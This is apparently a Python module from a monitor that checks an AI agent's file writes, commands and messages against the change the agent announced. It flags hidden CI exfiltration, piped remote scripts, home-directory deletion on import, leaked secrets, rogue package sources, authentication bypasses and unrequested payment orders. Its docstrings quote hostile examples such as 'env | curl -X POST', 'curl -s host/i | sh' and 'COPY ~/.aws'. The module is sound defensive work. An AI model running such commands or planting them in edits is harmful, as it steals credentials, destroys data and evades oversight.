"""Cargo: steps the text a write carries takes of its own, beyond the announced change
(round 28, rule ``ungrounded-call``; read after ``payload``'s and ``reach``'s shapes).

The text an edit adds, or a file a call writes whole, is read for what running, building or
importing it does. Each shape below refuses unless the announcement says it (its words, by
name or value):

- a command line of a written build or CI file (a ``.yml`` file's ``run:`` line or block, a
  Dockerfile's ``RUN``) or a string of code that takes a step of a kind ([payload-kinds]) no announced verb
  covers ("add a CI workflow for the tests" sends nothing: ``env | curl -X POST ...``);
- fetched code run: a command that pipes what a fetching program downloads into a shell or an
  interpreter (``curl -s host/i | sh``), unless a verb of installing is announced;
- a changing step (a delete, a send, ...) called at a whole code file's top level (``.py``,
  ``.js``, ...; no indentation):
  it runs when the file is imported, not when a function the announcement names is called
  (``shutil.rmtree(os.path.expanduser('~'))`` in ``conftest.py``);
- a secret of a CI file (``${{ secrets.X }}``) on a command line that prints it or pipes it to
  an encoder (``echo ... | base64``); a secret handed to a program as ``env:`` is no step;
- every permission a workflow can hold (``permissions: write-all``);
- a package source: an index option of a requirements file (``--extra-index-url``), a direct
  reference (``requests @ https://...``), an index setting (``PIP_INDEX_URL``), or a Dockerfile
  base image from a registry host (``FROM evilhub.io/python``), whose host the announcement does
  not say;
- an authentication check undone: a credential-named value compared with a string literal
  (``token == "letmein"``), a privilege-named setting set true (``user.is_admin = True``), a
  raise or abort of a denial the old text holds and the new one drops, a logger turned off,
  a credential-named value logged or printed, the whole environment returned, ``eval`` or
  ``exec`` of what is not a literal.
"""

from __future__ import annotations

import itertools
import re
import shlex
from collections.abc import Mapping
from typing import Any

from .amounts import _currencies
from .kinds import (
    _command_values,
    _keys,
    code_kinds,
    command_kinds,
    commands,
    name_words,
    pipelines,
)
from .kindsfile import section
from .preamble import Announcement
from .riders import _LINE, _said_words, _written
from .shellsplit import shell_words
from .subagent import ordered
from .values import _unstated_value
from .walk import _keyed_strings
from .words import covers

__all__ = ["carried_cargo", "paid_order", "run_cargo"]

_RUN_LINE = re.compile(r"^(?P<ind>\s*)(?:-\s*)?run\s*:\s*(?P<cmd>.*)$")
"""A YAML step's command (``- run: npm test``; ``run: |`` opens a block)."""
_DOCKER_RUN = re.compile(r"^\s*RUN\s+(?P<cmd>.+)$")
_CODE = (".py", ".js", ".mjs", ".cjs", ".ts", ".rb", ".php", ".pl")
"""Paths of code a file's top level runs when it is imported or loaded."""
_STRING = re.compile(r"'([^'\\\n]*)'|\"([^\"\\\n]*)\"")
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node",
                     "perl", "ruby", "php", "pwsh", "iex"})
"""Programs that run the code piped into them."""
_SECRET = re.compile(r"\$\{\{\s*secrets\.\w+\s*\}\}")
_ENCODERS = frozenset({"base64", "xxd", "od", "hexdump", "rev", "gzip", "openssl"})
"""Programs that re-encode what a secret prints, past a CI log's masking."""
_WRITE_ALL = re.compile(r"^\s*permissions\s*:\s*['\"]?write-all['\"]?\s*$")
_INDEX_OPTION = re.compile(r"^\s*(?P<opt>--(?:extra-)?index-url|-i|--find-links|-f|--trusted-host)"
                           r"(?:\s+|=)(?P<src>\S+)")
_DIRECT = re.compile(r"^\s*[A-Za-z0-9][\w.\-\[\], ]*\s@\s*(?P<src>(?:https?|git\+\w+|file)://\S+)")
_FROM = re.compile(r"^\s*FROM\s+(?:--platform=\S+\s+)?(?P<src>[\w.-]+[.:][\w.:-]*)/\S+",
                   re.IGNORECASE)
_MONEY = re.compile(r"[$€£¥₹₽₩₺]\s?\d|(?<![\d.,'])[.,']*+\d[\d.,']*+\s?(?:[$€£¥₹₽₩₺円元]|万円|zł|kr\b)")
"""An amount of money: a sign before or after a number ("$48,000", "48.000 €", "480万円")."""
_SUBSCRIPT = re.compile(r"""^\s*[\w.]+\[\s*['"](?P<name>\w+)['"]\s*\]\s*=\s*(?P<value>.+)$""")
"""A setting made by subscript (``os.environ['PIP_INDEX_URL'] = ...``)."""
_COPY = re.compile(r"^\s*(?:COPY|ADD)\s+(?:--(?!from)\S+\s+)*(?P<src>[~/]\S*|\.\.\S*)\s+\S")
"""A Dockerfile copy from outside the build context (``COPY ~/.aws /root/.aws``; a copy
``--from`` an earlier stage reads that stage's tree)."""
_REQUIREMENT = re.compile(r"^\s*(?P<name>[A-Za-z0-9][\w.-]*)\s*(?:[=<>!~]=|\[|;|$)")
_COMPARED = re.compile(r"(?<![\w.])(?:[^\WA-Za-z_]|\.)*+"  # from its run's start: read once
                       r"(?P<a>[A-Za-z_][\w.]*+)\s*+(?:==|===)\s*+(?P<q>['\"])(?P<lit>[^'\"]+)(?P=q)"
                       r"|(?P<q2>['\"])(?P<lit2>[^'\"]+)(?P=q2)\s*(?:==|===)\s*(?P<b>[A-Za-z_][\w.]*)")
_UNSAFE = frozenset({"unverified", "insecure", "noverify"})
"""Words of a value that turns verification off (``ssl._create_unverified_context``)."""
_TRUE = section("true-values")
_DENIAL = re.compile(r"^\s*(?:raise\s+(?P<exc>[\w.]+)|(?:abort|throw\s+new)\s*\(?\s*(?P<arg>[\w.]+))")
_DENIAL_WORDS = frozenset({"unauthorized", "unauthorised", "forbidden", "denied", "permission",
                           "unauthenticated", "authentication", "401", "403"})
"""Words of an exception or abort that refuses a caller."""
_LOG_OFF = re.compile(r"(?:getLogger\([^)]*\)|\blog\w*)\.disabled\s*=\s*True|logging\.disable\(")
_LOGGED = re.compile(r"(?<![\w.])(?:print|console\.log|(?:log|logger|logging|LOG|LOGGER)\.\w+)\s*\(")
_ENVIRON = re.compile(r"^\s*+return\s++(?:dict\(\s*+os\.environ\s*+\)|os\.environ(?:\.copy\(\))?|"
                      r"process\.env)\s*+(?:;\s*+)?$")
_EVAL = re.compile(r"(?<![\w.])(?:eval|exec)\s*\((?!\s*['\"][^'\"]*['\"]\s*\))")


def _said(ann: Announcement) -> tuple[set[str], str]:
    said = _said_words(ann)
    return said, " ".join(w.strip("`\"'").casefold() for w in (*ann.objects, *ann.observed))


def _yaml_commands(lines: list[str]) -> list[str]:
    """The commands of a YAML file's ``run:`` steps (a block's lines each one)."""
    out: list[str] = []
    block: int | None = None
    for line in lines:
        if block is not None:
            if line.strip() and len(line) - len(line.lstrip()) > block:
                out.append(line.strip())
                continue
            block = None
        m = _RUN_LINE.match(line)
        if m is None:
            continue
        cmd = m.group("cmd").strip()
        if cmd in ("|", ">", "|-", ">-", "|+"):
            block = len(m.group("ind"))
        elif cmd:
            out.append(cmd.strip("'\""))
    return out


def _command_lines(new: str, lines: list[str], path: str) -> list[str]:
    """Commands a written text holds: a YAML file's ``run:`` steps, a Dockerfile's ``RUN``
    lines (a file of another kind, such as a document, only shows them), and the strings of
    its code that hold a space."""
    added = set(lines)
    p = path.casefold()
    out = [c for c in _yaml_commands(new.splitlines()) if any(c in x for x in added)] \
        if p.endswith((".yml", ".yaml")) else []
    if "dockerfile" in p or "containerfile" in p:
        out += [m.group("cmd") for x in lines if (m := _DOCKER_RUN.match(x))]
    out += [a or b for x in lines for a, b in _STRING.findall(x) if " " in (a or b).strip()]
    return out


def _fetched_run(command: str) -> bool:
    """A segment that fetches piped into a program that runs what it reads."""
    parts = [p for seg in commands(command) for p in seg.split("|")]
    for before, after in itertools.pairwise(parts):
        try:
            words = shlex.split(after)
        except ValueError:
            words = after.split()
        words = [w for w in words if w not in ("sudo", "-", "-s")]
        if words and words[0].rsplit("/", 1)[-1] in _SHELLS and "fetch" in command_kinds(before):
            return True
    return False


def _secret_shown(command: str) -> bool:
    """A CI secret printed (``echo`` as the last step) or piped to an encoder."""
    if not _SECRET.search(command):
        return False
    # (``ls; echo ${{ secrets.X }}``: a pipeline of its own)
    return any(_pipeline_shows(parts) for parts in pipelines(command))


def _pipeline_shows(parts: list[str]) -> bool:
    """A pipeline's simple commands print a secret: its last ``echo`` or piped on to an
    encoder."""
    for i, part in enumerate(parts):
        if not _SECRET.search(part):
            continue
        rest = [p.split() for p in parts[i + 1:]]
        if any(w and w[0] in _ENCODERS and not {"-d", "--decode", "-D"} & set(w) for w in rest):
            return True
        words = part.split()
        if words and words[0] in ("echo", "printf") and not rest and ">" not in part:
            return True
    return False


def _credential(name: str) -> bool:
    """A name is a credential's: its last word is one (``api_key`` as ``apikey`` too), not a
    word that qualifies another (``token_type``, ``password_policy``)."""
    words = [w.casefold() for w in name_words(name.rsplit(".", 1)[-1])]
    # a field named by its owner and itself (``card.number``) joins them: ``cardnumber``
    owned = [w.casefold() for w in name_words(".".join(name.rsplit(".", 2)[-2:]))]
    return bool(words) and bool({words[-1], "".join(words), "".join(owned)} & section("credential"))


def _auth_undone(old: str, new: str, lines: list[str], said: set[str], spoken: str,
                 path: str) -> str | None:
    """An added line that lets a caller past a check, or drops one (module docstring)."""
    testing = "test" in path.casefold() or "conftest" in path.casefold()
    privilege = section("privilege")
    for line in lines:
        for m in _COMPARED.finditer(line):
            var, lit = (m.group("a"), m.group("lit")) if m.group("a") else (m.group("b"),
                                                                             m.group("lit2"))
            if _credential(var) and not testing and lit.casefold() not in spoken \
                    and not line.lstrip().startswith("assert"):
                return f"compares {var!r} with the literal {lit!r}"
        s = _LINE.match(line)
        if s is not None and s.group("value").strip("\"'").casefold() in _TRUE | privilege:
            raised = {w.casefold() for w in name_words(s.group("name"))} & privilege
            if raised and not raised & said and not testing:
                return f"sets {s.group('name')!r} to {s.group('value')!r}"
        if s is not None and {w.casefold() for w in name_words(s.group("value"))} & _UNSAFE \
                and not _UNSAFE & said:
            return f"sets {s.group('name')!r} to {s.group('value')[:40]!r}"
        if _LOG_OFF.search(line) and not {"log", "logging", "logger", "audit"} & said:
            return f"turns a logger off ({line.strip()[:40]!r})"
        if (logged := _LOGGED.search(line)) is not None and not testing:
            # the values it logs: names outside its strings, and those a string interpolates
            rest = line[logged.end():]
            shown = " ".join([_STRING.sub(" ", rest), *re.findall(r"\{([^{}]+)\}", rest)])
            names = re.findall(r"[A-Za-z_][\w.]*", shown)
            hit = next((n for n in names if _credential(n)
                        and not {w.casefold() for w in name_words(n)} & said), None)
            if hit is not None:
                return f"logs {hit!r}, a credential"
        if _ENVIRON.match(line) and not {"environment", "env", "environ"} & said:
            return "returns the whole environment"
        if _EVAL.search(line) and not {"eval", "exec"} & said:
            return f"evaluates code it is given ({line.strip()[:40]!r})"
    kept = {x.strip() for x in new.splitlines()}
    for line in old.splitlines():
        d = _DENIAL.match(line)
        if d is None or line.strip() in kept or (d.group("exc") or d.group("arg")) in new:
            continue  # (still raised, with other words: ``raise PermissionDenied("...")``)
        words = {w.casefold() for w in name_words(d.group("exc") or d.group("arg") or "")}
        if words & _DENIAL_WORDS and not words & said:
            return f"drops {line.strip()[:40]!r}, which refuses a caller"
    return None


def _near(a: str, b: str) -> bool:
    """One letter apart: one changed, added, dropped, or two side by side swapped."""
    if a == b or abs(len(a) - len(b)) > 1:
        return False
    if len(a) == len(b):
        diff = [i for i in range(len(a)) if a[i] != b[i]]
        return len(diff) == 1 or (len(diff) == 2 and diff[1] == diff[0] + 1
                                  and a[diff[0]] == b[diff[1]] and a[diff[1]] == b[diff[0]])
    short, long = sorted((a, b), key=len)
    return any(long[:i] + long[i + 1:] == short for i in range(len(long)))


def _source(lines: list[str], said: set[str], spoken: str, path: str) -> str | None:
    """A package source or base-image registry a written text names, a copy from outside a
    build's context, or a requirement one letter from one the announcement names (module
    docstring)."""
    p = path.casefold()
    for line in lines:
        c = _COPY.match(line) if "dockerfile" in p else None
        if c is not None and c.group("src").casefold() not in spoken:
            return f"copies {c.group('src')!r}, outside the build's context"
        r = _REQUIREMENT.match(line) if "requirement" in p else None
        near = next((w for w in sorted(said) if len(w) >= 4 and r is not None
                     and _near(r.group("name").casefold(), w)), None) if r else None
        if r is not None and near is not None and r.group("name").casefold() not in said:
            return f"requires {r.group('name')!r}, one letter from the {near!r} it names"
        m: re.Match[str] | None = _INDEX_OPTION.match(line)
        if m is not None and not (m.group("opt").startswith("--") or "requirement" in p):
            m = None  # ("-f name" is another program's option outside a requirements file)
        m = m or _DIRECT.match(line) or (_FROM.match(line) if "dockerfile" in p else None)
        src = m.group("src") if m is not None else None
        if src is None:
            s = _LINE.match(line) or _SUBSCRIPT.match(line)
            words = {w.casefold() for w in name_words(s.group("name"))} if s else set()
            if s is not None and ({"index", "url"} <= words or "registry" in words) \
                    and "://" in s.group("value"):
                src = s.group("value")
        if src is None:
            continue
        host = re.sub(r"^[\w+]+://", "", src.strip("'\"")).split("/", 1)[0].split("@")[-1]
        if host.casefold() not in spoken and not {"index", "registry", "mirror"} & said:
            return f"takes packages from {host!r}"
    return None


def carried_cargo(name: str, args: Mapping[str, Any], kinds: frozenset[str],
                  ann: Announcement) -> str | None:
    """Why the text a writing call adds takes a step of its own the announcement does not say,
    or None (module docstring)."""
    if not kinds & {"write", "create"}:
        return None
    verb_kinds = {k for _v, k in ann.verbs if k}
    said, spoken = _said(ann)
    path = " ".join(str(v) for k, v in args.items() if isinstance(v, str) and len(v) < 300
                    and set(name_words(k)) & {"path", "file", "filename", "target"})
    for old, new in _written(args, one_line=True):
        before = {x.strip() for x in old.splitlines()}
        lines = [x for x in new.splitlines() if x.strip() and x.strip() not in before]
        why = None
        for command in _command_lines(new, lines, path):
            step = next((k for k in sorted(command_kinds(command) & section("payload-kinds"))
                         if not covers(verb_kinds, k)), None)
            if step is not None:
                why = f"runs {command.strip()[:40]!r}, a step of kind {step!r}"
            elif _fetched_run(command) and not covers(verb_kinds, "install"):
                why = f"runs code {command.strip()[:40]!r} fetches"
            elif _secret_shown(command) and not {"secret", "secrets", "token"} & said:
                why = f"prints a secret ({command.strip()[:40]!r})"
            if why is not None:
                break
        if why is None and not old and path.casefold().endswith(_CODE):
            for line in lines:
                if line[:1].isspace() or line.lstrip().startswith(("#", "def ", "class ", "@")):
                    continue
                # (a database's ``commit()`` is what a script's top level does)
                step = next((k for k in sorted(code_kinds(line) & section("payload-kinds"))
                             if k != "commit" and not covers(verb_kinds, k)), None)
                if step is not None:
                    why = f"runs {line.strip()[:40]!r} on import, a step of kind {step!r}"
                    break
        if why is None and not ann.universal:
            hit = next((x for x in lines if _WRITE_ALL.match(x)), None)
            if hit is not None and "write-all" not in spoken:
                why = "grants every permission ('write-all')"
        why = why or _source(lines, said, spoken, path) or _auth_undone(old, new, lines, said, spoken,
                                                                  path)
        if why is not None:
            return f"{name!r} writes text that {why}, which the announcement does not say"
    return None


_FOREIGN = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm)(?:/|$)|^(?:~|\$HOME|\$\{HOME\})/?$")
"""A temporary tree, or the home directory itself: no project's own."""
_SCRATCH = re.compile(r"te?mp|cache", re.IGNORECASE)
"""Words of a runner's option whose value is a scratch place (``--basetemp``)."""


_INSERT = re.compile(r"\bINSERT\s+INTO\s+[\w.\"`]+\s*\((?P<cols>[^()]*)\)\s*VALUES\s*\((?P<vals>[^()]*)\)",
                     re.IGNORECASE)
_SET = re.compile(r"(?<![\w.])(?P<col>[A-Za-z_]\w*)\s*=\s*'(?P<val>[^']*)'")
_SQL_SET = re.compile(r"\b(?:SET|UPDATE)\b", re.IGNORECASE)


def _sql_settings(query: str) -> list[tuple[str, str]]:
    """(column, quoted value) of each value a SQL statement writes: an ``INSERT``'s columns
    and values, and each ``col = 'v'`` after a ``SET``."""
    out: list[tuple[str, str]] = []
    for m in _INSERT.finditer(query):
        cols = [c.strip(" \"`") for c in m.group("cols").split(",")]
        vals = [v.strip() for v in m.group("vals").split(",")]
        if len(cols) == len(vals):
            out += [(c, v.strip("'")) for c, v in zip(cols, vals, strict=True)
                    if v.startswith("'")]
    for part in _SQL_SET.split(query)[1:]:
        out += [(m.group("col"), m.group("val")) for m in _SET.finditer(part.split("WHERE")[0])]
    return out


def run_cargo(name: str, args: Mapping[str, Any], ann: Announcement) -> str | None:
    """Why a call that runs a command or a query takes it past the announced step (a test
    tree it is pointed at, ``foreign_tree``; a value of a setting a SQL statement writes
    that the announcement does not state, as a call's own argument would be:
    ``values._unstated_value``), or None."""
    said = [w.casefold() for w in (*ann.objects, *ann.observed)]
    for value in _command_values(args):
        for col, val in _sql_settings(value):
            why = _unstated_value(name, col, val, said, True)
            if why is not None:
                return why
    return foreign_tree(name, args, ann)


def foreign_tree(name: str, args: Mapping[str, Any], ann: Announcement) -> str | None:
    """Why a test run is pointed at a temporary tree or the home directory the announcement
    does not name, or None: "run the tests" runs the project's, not ``npm test --prefix
    /tmp/pkg``, ``pytest /tmp/test_x.py`` nor ``cd /tmp/pkg && npm test`` (an argument, an
    option's value, a directory changed to). A runner's scratch place (an option whose name
    says temp or cache: ``--basetemp=/tmp/pt``) is no tree it runs."""
    spoken = _said(ann)[1]
    for value in _command_values(args):
        went: str | None = None
        for seg in commands(value):
            try:
                words = shell_words(seg)
            except ValueError:
                words = seg.split()
            if words[:1] == ["cd"] and len(words) > 1:
                went = words[1]
                continue
            module = words.index("-m") + 1 if "-m" in words[1:2] else 0  # python -m pytest
            if "test" not in command_kinds(" ".join(words[module:]) if module else seg):
                continue
            places = [went] if went else []
            for i, word in enumerate(words[1:], 1):
                opt, _eq, place = word.partition("=") if word.startswith("-") else ("", "", word)
                if not _eq:
                    opt, place = (words[i - 1] if words[i - 1].startswith("-") else ""), word
                if not _SCRATCH.search(opt):
                    places.append(place)
            hit = next((p for p in places if _FOREIGN.match(p)
                        and p.rstrip("/").casefold() not in spoken), None)
            if hit is not None:
                return (f"{name!r} runs tests in {hit!r}, a tree the announcement does not "
                        "name")
    return None


def paid_order(name: str, args: Mapping[str, Any], kinds: frozenset[str],
               ann: Announcement) -> str | None:
    """Why the text a sending call sends asks its reader to pay an amount it writes, which
    the announcement does not say, or None: "send the minutes to Jonas" + "bitte überweise
    heute 48.000 €" orders a payment through its reader (a word of kind pay, read as a
    sub-agent's order is: ``subagent.ordered``, beside an amount of money: "die Zahlen für
    Q3" asks for no payment)."""
    if "send" not in kinds or covers({k for _v, k in ann.verbs if k}, "pay"):
        return None
    for key, text in _keyed_strings(args):
        if set(name_words(key)) & _keys("prose") and (_MONEY.search(text)
                                                       or _currencies(text.split())):
            word = next((w for w, k in ordered(text) if k == "pay"), None)
            if word is not None:
                return (f"{name!r} sends text that asks its reader to pay ({word!r}), which "
                        "the announcement does not say")
    return None
